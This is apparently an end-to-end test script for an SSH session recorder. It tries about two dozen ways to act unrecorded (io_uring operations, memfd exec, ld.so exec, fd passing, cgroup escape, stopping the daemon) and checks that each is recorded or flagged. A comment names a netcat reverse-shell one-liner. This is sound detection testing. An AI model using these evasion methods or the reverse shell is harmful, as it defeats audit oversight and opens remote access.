#!/usr/bin/env bash
# The blinding matrix (SECURITY.md): each way to act unrecorded is tried in
# its own login through a real sshd, as a non-root user (and, for the last
# rows, as root: moving out of the session cgroup from a root login, stopping
# sshrecd from outside a user's login), and every row must end exactly as the matrix says for the
# backend this kernel runs: recorded, flagged, or not recorded (with the
# reason). A row whose outcome changes fails the test until the matrix is
# updated. The table goes to the test log (and to $SR_MATRIX_OUT when set).
SR_EXCLUSIVE=1 # the flood row fills a small ring buffer on purpose
. "$SR_TOP_SRCDIR/tests/e2e/lib.sh"
. "$SR_TOP_SRCDIR/tests/e2e/scenario_lib.sh"
sc_init
U=sshrec-blind-$$
sc_add_user "$U"
echo "ringbuf_size = 256K" >>"$SR_CONF"
sc_start
sc_listen P 127.0.0.1
backend=$("$SR_SSHREC" --socket "$SR_SOCK" status --json |
	"$SR_PY" -c 'import json,sys; print(json.load(sys.stdin)["capture"]["backend"])')
B=$SR_TOP_BUILDDIR
W=$SC_W/m
mkdir -p "$W" && chmod 1777 "$W"
# The session user runs the test programs: copies where any user may run
# them (a build tree under root's 0700 home, as on a fresh Debian, is not).
mkdir -p "$W/bin"
cp "$B/tests/e2e/blind" "$B/tests/kernel/uring_ops" "$B/tests/kernel/compat32" "$W/bin/"
chmod 755 "$W/bin" "$W/bin"/*
BLIND=$W/bin/blind
URING=$W/bin/uring_ops
COMPAT32=$W/bin/compat32
for f in r1 r2 r4 r11 r19; do echo "$f" >"$W/$f-file"; done
chmod 644 "$W"/*-file
chmod 600 "$W/r19-file" # only root may open it: the session user gets its fd passed
printf '#!/bin/sh\n/bin/true shebang-inner-%s\n' "$SC_TAG" >"$W/r8.sh"
chmod 755 "$W/r8.sh"
MATRIX=$SR_T/matrix.md
printf '| # | as | attempt | %s backend | record |\n|---|---|---|---|---|\n' "$backend" >"$MATRIX"

# ---- outcomes -------------------------------------------------------------
# A command counts when the program itself ran with MARK as an argument
# (or as argv[0]): the login shell's "-c" string, which holds every mark of
# the row, must not count, or a program that never ran would pass.
n_cmd() { sc_jl "$1" 'select(.event == "session.command" and (.argv0 == $m or any(.argv[]?; . == $m))) | .ei' --arg m "$2" | wc -l; }
n_disk() { sc_jl "$1" 'select(.event == "session.disk" and .path == $p) | .ei' --arg p "$2" | wc -l; }
n_net() { sc_jl "$1" 'select(.event == "session.network" and .dst_port == $p) | .ei' --argjson p "$2" | wc -l; }

# run LOGIN CMD: one login running CMD; SID is the session (ended).
run() {
	local who=$1
	shift
	sc_mark
	sc_drive -u "$who" -c "$*" >>"$SR_T/drive.out" 2>&1 || sr_log "login command failed: $*"
	sc_take_session "$ROW" 60 || return 1
	SID=$SC_SID
}

# row NUM AS ATTEMPT EXPECTED GOT WHAT: assert and add the table line.
row() {
	sr_check_eq "row $1 ($3) on $backend" "$4" "$5"
	printf '| %s | %s | %s | %s | %s |\n' "$1" "$2" "$3" "$5" "$6" >>"$MATRIX"
}

yes_no() { if [ "$1" -gt 0 ]; then echo "${2:-recorded}"; else echo "not recorded"; fi; }

# ---- as the session user --------------------------------------------------
ROW=1; run "$U" "cd $W && $URING openat r1-file"
row 1 user "io_uring IORING_OP_OPENAT (relative path)" recorded "$(yes_no "$(n_disk "$SID" "$W/r1-file")")" "session.disk, absolute path"
ROW=2; run "$U" "$URING openat2 $W/r2-file"
row 2 user "io_uring IORING_OP_OPENAT2" recorded "$(yes_no "$(n_disk "$SID" "$W/r2-file")")" "session.disk"
ROW=3; run "$U" "$URING connect 127.0.0.1 $P"
row 3 user "io_uring IORING_OP_CONNECT" recorded "$(yes_no "$(n_net "$SID" "$P")")" "session.network"
ROW=4; run "$U" "$BLIND openat2 $W/r4-file"
row 4 user "openat2(2)" recorded "$(yes_no "$(n_disk "$SID" "$W/r4-file")")" "session.disk"
ROW=5; run "$U" "$BLIND tfo 127.0.0.1 $P"
row 5 user "TCP fast open (sendto MSG_FASTOPEN, no connect)" recorded "$(yes_no "$(n_net "$SID" "$P")")" "session.network"
ROW=6; run "$U" "$BLIND memfd-exec memfd-$SC_TAG"
row 6 user "memfd_create + execveat(AT_EMPTY_PATH)" recorded "$(yes_no "$(n_cmd "$SID" "memfd-$SC_TAG")")" "session.command (path /dev/fd/N)"
ROW=7; run "$U" "/lib64/ld-linux-x86-64.so.2 /bin/true ldso-$SC_TAG"
row 7 user "exec through ld.so" recorded "$(yes_no "$(n_cmd "$SID" "ldso-$SC_TAG")")" "session.command of ld.so with the program in argv"
ROW=8; run "$U" "$W/r8.sh shebang-$SC_TAG"
got=$(yes_no "$(( $(n_cmd "$SID" "shebang-$SC_TAG") > 0 && $(n_cmd "$SID" "shebang-inner-$SC_TAG") > 0 ))")
row 8 user "#! script" recorded "$got" "session.command of the script and of what it runs"
ROW=9; run "$U" "$BLIND thread-exec thread-$SC_TAG"
row 9 user "exec from a non-main thread" recorded "$(yes_no "$(n_cmd "$SID" "thread-$SC_TAG")")" "session.command"
ROW=10; run "$U" "$BLIND vfork vfork-$SC_TAG; $BLIND spawn spawn-$SC_TAG"
got=$(yes_no "$(( $(n_cmd "$SID" "vfork-$SC_TAG") > 0 && $(n_cmd "$SID" "spawn-$SC_TAG") > 0 ))")
row 10 user "vfork / posix_spawn" recorded "$got" "session.command"
ROW=11; run "$U" "unshare -Urm /bin/sh -c '/bin/true unshare-$SC_TAG; cat $W/r11-file >/dev/null'"
got=$(yes_no "$(( $(n_cmd "$SID" "unshare-$SC_TAG") > 0 && $(n_disk "$SID" "$W/r11-file") > 0 ))")
row 11 user "unshare -Urm (user and mount namespaces)" recorded "$got" "session.command, session.disk"
# Some kernels boot with IA-32 emulation off (tests/kernel/ia32.h): there the
# attempt must be refused (ENOEXEC) and recorded as a failed exec.
ia32=$("$BLIND" ia32 "$COMPAT32") || sr_fail "32-bit compat path: a 32-bit exec and int \$0x80 disagree ($ia32)"
[ "$ia32" = closed ] && [ -n "${SR_EXPECT_IA32:-}" ] && sr_fail "SR_EXPECT_IA32: this kernel must run 32-bit code"
ROW=12; run "$U" "mkdir -p $W/r12 && $COMPAT32 $W/r12"
if [ "$ia32" = closed ]; then
	noexec=$(sc_jl "$SID" 'select(.event == "session.command" and .return_code == -8 and .path == $p) | .ei' --arg p "$COMPAT32" | wc -l)
	row 12 user "32-bit (int 0x80) program, IA-32 emulation off in this kernel" \
		"refused, recorded" "$(yes_no "$noexec" "refused, recorded")" "failed session.command (ENOEXEC)"
else
	fail32=$(sc_jl "$SID" 'select(.event == "session.command" and .return_code == -2) | select(tostring | contains("compat-missing")) | .ei' | wc -l)
	# and its file changes: the rename and unlink of c-fb / c-fr (result known on every backend but the hooks)
	fc32=$(sc_jl "$SID" 'select(.event == "session.disk" and ((.change == "rename" and .path == $d + "/c-fb" and .new_path == $d + "/c-fr") or
		(.change == "unlink" and .path == $d + "/c-fr"))) | .ei' --arg d "$W/r12" | wc -l)
	got=$(yes_no "$(( $(n_disk "$SID" "$W/r12/compat-creat") > 0 && fail32 > 0 && fc32 == 2 ))")
	row 12 user "32-bit (int 0x80) open, creat, rename, unlink, failed execve" recorded "$got" "session.disk (file changes with change), failed session.command"
fi
ROW=13; run "$U" "$BLIND argv-overwrite argv-$SC_TAG"
row 13 user "overwrite its own argv after exec" recorded "$(yes_no "$(n_cmd "$SID" "argv-$SC_TAG")")" "session.command with argv as at exec"
ROW=14; run "$U" "mkdir -p $W/r14 && $BLIND deep $W/r14 deep-$SC_TAG"
deep=$(sc_jl "$SID" 'select(.event == "session.disk" and (.path | endswith($n)) and .path_truncated == true) | .ei' --arg n "/deep-$SC_TAG" | wc -l)
row 14 user "path over 4096 bytes (dirfd chain of deep directories)" flagged "$(yes_no "$deep" flagged)" "session.disk, path_truncated (the deepest 4 KiB kept)"
ROW=15; run "$U" "$BLIND flood 300000"
lost=$(sc_jl "$SID" 'select(.event == "session.data_loss") | .lost' | awk '{s += $1} END {print s + 0}')
row 15 user "flood the ring buffer" flagged "$(yes_no "$lost" flagged)" "session.data_loss (lost $lost), session.end lost"
ROW=16; run "$U" "$BLIND udp 127.0.0.1 $P"
udp=$(sc_jl "$SID" 'select(.event == "session.network" and .operation == 1 and .dst_port == $p) | .ei' --argjson p "$P" | wc -l)
row 16 user "UDP datagram (sendto)" recorded "$(yes_no "$udp")" "session.network (operation 1)"
# an fd opened outside the session, passed in over a unix socket
"$BLIND" fd-send "$W/r19.sock" "$W/r19-file" >"$SR_T/fdsend.out" 2>&1 &
SR_PIDS+=("$!")
for _ in $(seq 1 50); do grep -q ready "$SR_T/fdsend.out" && break; sleep 0.1; done
ROW=17; run "$U" "$BLIND fd-recv $W/r19.sock"
row 17 user "read a file through an fd passed in (SCM_RIGHTS) from outside the session" "not recorded" \
	"$(yes_no "$(n_disk "$SID" "$W/r19-file")")" "- (no open in the session; the passing process is outside)"

# ---- as root ----------------------------------------------------------------
cg2=$(sr_cgroup2)
ROW=18; run root "echo \$\$ > $cg2/cgroup.procs && /bin/true escape-$SC_TAG"
esc=$(sc_jl "$SID" 'select(.event == "session.escape") | .ei' | wc -l)
got=$(yes_no "$(( esc > 0 && $(n_cmd "$SID" "escape-$SC_TAG") > 0 ))" flagged)
row 18 root "move out of the session cgroup" flagged "$got" "session.escape, and still recorded"
ROW=19
sc_mark
sc_drive -u "$U" -c "while [ ! -e $SR_T/go ]; do sleep 0.05; done; /bin/true stopped-$SC_TAG" >>"$SR_T/drive.out" 2>&1 &
drive=$!
for _ in $(seq 1 100); do [ -n "$(sc_new_sids)" ] && break; sleep 0.1; done
sr_stop_daemon
grep -Eo 'linger watcher pid [0-9]+' "$SR_T/sshrecd.log" | awk '{print $4}' | while read -r p; do echo "$p"; done >"$SR_T/watchers"
while read -r p; do SR_PIDS+=("$p"); done <"$SR_T/watchers"
touch "$SR_T/go"
sleep 0.5
sr_start_daemon
wait "$drive"
sc_take_session "row 19" 60 && SID=$SC_SID
row 19 root "stop sshrecd during a session" recorded "$(yes_no "$(n_cmd "$SID" "stopped-$SC_TAG")")" "recorded by the pinned programs, read after the restart"

# io_uring's file changes bypass their syscalls: the submission (tracepoints) or the path
# hook (lsm, fentry) records them, before the result is known: return_code null
ROW=20; run "$U" "cd $W && touch r20-file && $URING renameat r20-file r20-renamed && $URING unlinkat r20-renamed"
n20=$(sc_jl "$SID" 'select(.event == "session.disk" and .return_code == null and
	((.change == "rename" and .path == $w + "/r20-file" and .new_path == $w + "/r20-renamed") or
	 (.change == "unlink" and .path == $w + "/r20-renamed"))) | .ei' --arg w "$W" | wc -l)
row 20 user "io_uring IORING_OP_RENAMEAT, IORING_OP_UNLINKAT" flagged "$( [ "$n20" = 2 ] && echo flagged || echo "not recorded ($n20 of 2)")" "session.disk with change, return_code null (result not known)"

# ---- as the session user, again: io_uring's network operations ---------------
PU=$(sr_free_port)
ROW=21; run "$U" "$URING sendmsg-udp 127.0.0.1 $PU"
udp=$(sc_jl "$SID" 'select(.event == "session.network" and .operation == 1 and .dst_port == $p) | .ei' --argjson p "$PU" | wc -l)
row 21 user "io_uring IORING_OP_SENDMSG, UDP, 3 datagrams" "recorded once" "$(yes_no "$(( udp == 1 ))" "recorded once")" "session.network (operation 1), the socket's first datagram to that destination"
PA=$(sr_free_port)
ROW=22; run "$U" "$URING accept 127.0.0.1 $PA"
acc=$(sc_jl "$SID" 'select(.event == "session.network" and .operation == 2 and .dst_port == $p) | .ei' --argjson p "$PA" | wc -l)
row 22 user "io_uring IORING_OP_ACCEPT" recorded "$(yes_no "$acc")" "session.network (operation 2), from the TCP states"

# ---- as the session user: UDP without a send syscall --------------------------
# write() on a connected socket: sock:sock_send_length on the tracepoint
# backend (6.3), which a kernel before it lacks (its BTF says, as for the loader)
PW=$(sr_free_port)
ROW=23; run "$U" "$BLIND udp-write 127.0.0.1 $PW"
udp=$(n_net "$SID" "$PW")
want="recorded once"
[ "$backend" != tracepoint ] || grep -qa btf_trace_sock_send_length /sys/kernel/btf/vmlinux ||
	want="not recorded"
case $udp in 0) got="not recorded" ;; 1) got="recorded once" ;; *) got="recorded $udp times" ;; esac
row 23 user "UDP write() on a connected socket, 3 datagrams" "$want" "$got" "session.network (operation 1), the socket's first datagram to its peer; tracepoint backend: from Linux 6.3 (sock:sock_send_length)"

# ---- as the session user: a named pipe, the plumbing of a reverse shell -------
# (mkfifo f; nc host port <f | sh >f): made by mknodat(2), no open of it yet
ROW=24; run "$U" "mkfifo -m 600 $W/r24-fifo"
fifo=$(sc_jl "$SID" 'select(.event == "session.disk" and .change == "mknod" and .path == $p and
	.file_type == "fifo") | .ei' --arg p "$W/r24-fifo" | wc -l)
row 24 user "named pipe (mkfifo), as a reverse shell's plumbing" recorded "$(yes_no "$fifo")" "session.disk, change mknod, file_type fifo"

echo "---- blinding matrix ($backend backend, kernel $(uname -r)) ----"
cat "$MATRIX"
[ -n "${SR_MATRIX_OUT:-}" ] && cp "$MATRIX" "$SR_MATRIX_OUT"
sr_finish
